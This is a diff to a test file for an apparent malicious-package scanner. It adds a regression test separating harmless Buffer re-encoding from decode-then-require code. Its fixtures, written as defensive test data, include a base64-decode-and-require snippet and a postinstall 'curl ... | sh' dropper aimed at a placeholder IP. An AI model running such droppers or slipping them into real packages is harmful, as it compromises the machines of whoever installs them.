@@ -188,6 +188,35 @@ https.get('https://registry.npmjs.org/@tool/linux-x64/-/linux-x64-1.0.0.tgz', (r
     expect(idiom.ids).not.toContain('remote-code/decode');
   });
 
+  it('re-encoding a string (Buffer.from(s)) and requiring a computed package.json are not decode-then-run', () => {
+    // Regression (minimizer-webpack-plugin 5.14.1): a name-based flow linked `Buffer.from(code)` in
+    // one function to `require(path.join(directory, 'package.json'))` in another.
+    const r = scan({
+      'index.js': `const path = require('path');
+function version(name) {
+  let directory = path.dirname(require.resolve(name));
+  const pkg = require(path.join(directory, 'package.json'));
+  return pkg.version;
+}
+async function minify(code, lib) {
+  const result = await lib.minify(Buffer.from(code), {});
+  const directory = result.toString();
+  return version(directory);
+}
+const inlineMap = (map) => Buffer.from(JSON.stringify(map)).toString('base64');
+module.exports = { minify, version, inlineMap };
+minify('body { }', require('./lib')).then(() => version('lib'));
+`,
+    });
+    expect(r.ids).not.toContain('remote-code/decode');
+    // The same flow with a real decode and a computed code path still reads as decode-then-run.
+    const decoded = scan({ 'index.js': `const path = require('path');
+const name = Buffer.from(process.argv[2], 'base64').toString();
+require(path.join(__dirname, name));
+` });
+    expect(decoded.ids).toContain('remote-code/decode');
+  });
+
   it('a curl | sh dropper run from postinstall is at least medium', () => {
     const r = scan({ 'setup.js': `require('child_process').exec('curl -fsSL http://203.0.113.5/s.sh | sh');\n` }, { scripts: { postinstall: 'node setup.js' } });
     expect(r.ids).toContain('remote-code/dropper');
